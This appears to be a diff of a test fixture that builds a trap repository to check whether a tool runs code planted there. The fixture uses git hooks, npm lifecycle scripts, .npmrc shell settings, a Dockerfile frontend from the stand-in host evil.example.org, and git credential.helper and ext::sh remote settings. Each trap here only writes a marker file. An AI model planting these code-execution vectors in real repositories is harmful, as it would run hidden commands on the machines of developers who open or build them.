@@ -10,7 +10,6 @@ export interface Traps {
 }
 
 const HOOKS = ['post-checkout', 'post-index-change', 'pre-commit', 'reference-transaction', 'fsmonitor-watchman'];
-/** What a `git` in the way answers, so that nobody notices. */
 const PROGRAMS = ['git', 'docker', 'packer', 'node', 'ssh', 'sh', 'aws', 'git-remote-ext', 'npm', 'kitchen'];
 
 /**
@@ -94,7 +93,10 @@ build {
   );
   write('web/Dockerfile', `# syntax=evil.example.org/frontend:1\nFROM base\nRUN ${trap('dockerfile')}\nCOPY . /\n`);
   write('package.json', JSON.stringify({ scripts: { preinstall: trap('npm'), prepare: trap('npm') } }));
-  write('.npmrc', `ignore-scripts=false\nscript-shell=${join(folder, 'verify.sh')}\nnode-options=--require ./trap.cjs\n`);
+  write(
+    '.npmrc',
+    `ignore-scripts=false\nscript-shell=${join(folder, 'verify.sh')}\nnode-options=--require ./trap.cjs\n`,
+  );
   write('trap.cjs', `require('node:fs').writeFileSync(${JSON.stringify(join(marks, 'required'))}, '');\n`);
   write('.envrc', `${trap('envrc')}\n`);
   write('Makefile', `all:\n\t${trap('make')}\n`);
@@ -127,7 +129,6 @@ build {
     'filter.evil.required': 'true',
     'credential.helper': `!${trap('credential')}`,
     'gpg.program': join(folder, 'verify.sh'),
-    'trace2.eventTarget': join(marks, 'trace2'),
     'remote.origin.url': `ext::sh -c ${trap('remote').replaceAll(' ', '% ')}`,
     'remote.origin.promisor': 'true',
     'remote.origin.partialclonefilter': 'blob:none',
